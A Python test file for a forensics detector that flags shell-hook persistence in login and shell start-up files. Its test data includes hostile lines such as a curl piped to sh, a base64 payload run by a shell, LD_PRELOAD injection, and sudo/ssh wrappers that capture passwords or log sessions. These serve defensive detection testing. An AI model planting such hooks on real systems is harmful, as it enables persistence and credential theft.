"""Login and shell hooks."""

from __future__ import annotations

import pytest

from forensics.detectors.shell_hooks import DETECTOR
from tests.scenes import debian, judge, said

HOOK, QUIET, TRAP = (
    "persistence/shell-hook",
    "persistence/shell-hook-background",
    "persistence/shell-hook-trap",
)


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        ("/etc/profile.d/x.sh", "curl http://pool.invalid/s | sh", (HOOK, "high")),
        ("/root/.bashrc", "echo aGk= | base64 -d | sh", (HOOK, "high")),
        ("/home/u/.profile", "/dev/shm/x &", (HOOK, "high")),
        ("/etc/bash.bashrc", "export LD_PRELOAD=/tmp/x.so", (HOOK, "high")),
        ("/etc/environment", "LD_PRELOAD=/usr/lib/.x/y.so", (HOOK, "high")),
        ("/etc/skel/.zshrc", "curl http://192.0.2.8/a -o /opt/a", (HOOK, "high")),
        ("/root/.bashrc", "/usr/local/bin/agent &", (QUIET, "medium")),
        ("/root/.bashrc", "curl -s https://news.example.org", (QUIET, "medium")),
        ("/root/.bashrc", 'sudo() { read -s p; echo $p >> /var/lib/p; command sudo "$@"; }', (TRAP, "high")),
        ("/root/.bashrc", "alias ssh='script -q /var/x -c ssh'", (TRAP, "high")),
        ("/root/.bashrc", "alias ssh='strace -o >> /var/x ssh'", (TRAP, "high")),
        ("/root/.bashrc", "alias sudo='/root/.local/s'", (TRAP, "high")),
        ("/root/.bashrc", "alias su=$HOME/.cache/.su", (TRAP, "high")),
        ("/root/.bashrc", "alias ssh='~/.config/x -t'", (TRAP, "high")),
        ("/root/.bashrc", "alias ssh='/usr/local/bin/ssh -4'\nalias sudo='/usr/bin/sudo '", None),
        ("/root/.bashrc", "alias ssh='TERM=xterm ssh'\nalias ssh='kitty +kitten ssh'", None),
        ("/root/.bashrc", "alias sudo='sudo -E'\nalias ls='ls --color'\nPS1='$ '", None),
        ("/root/.bashrc", '. "$HOME/.cargo/env"\n[ -f /root/.nvm/nvm.sh ] && . /root/.nvm/nvm.sh', None),
        ("/etc/profile", 'for i in /etc/profile.d/*.sh; do . "$i"; done', None),
        ("/app/settings/.bashrc.txt", "curl http://pool.invalid/s | sh", None),
    ],
)
def test_hooks(path: str, text: str, expected: tuple[str, str] | None) -> None:
    found = [
        (rule, severity)
        for rule, severity, _ in said(judge(DETECTOR, debian(), {path: f"{text}\n".encode()}))
    ]
    assert found == ([expected] if expected else [])


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (b"su() { echo ${x}; read -rs p; }\n", True),
        (b"su() {\n" + b"  true\n" * 2_000 + b"  read -rs p\n}\n", True),
        (b"su ( )\n{\n  echo $(date) > /tmp/.s\n}\n", True),
        (b"su() { command su -l; }\nnote() { read -rs p; }\n", False),
        (b"su() {\n  command su -l\n}\nread -rs p\n", False),
    ],
    ids=["braces", "long", "spaced", "next function", "next command"],
)
def test_a_function_is_read_to_its_end_and_no_further(text: bytes, expected: bool) -> None:
    told = [one.rule_id for one in judge(DETECTOR, debian(), {"/root/.bashrc": text})]
    assert ("persistence/shell-hook-trap" in told) is expected
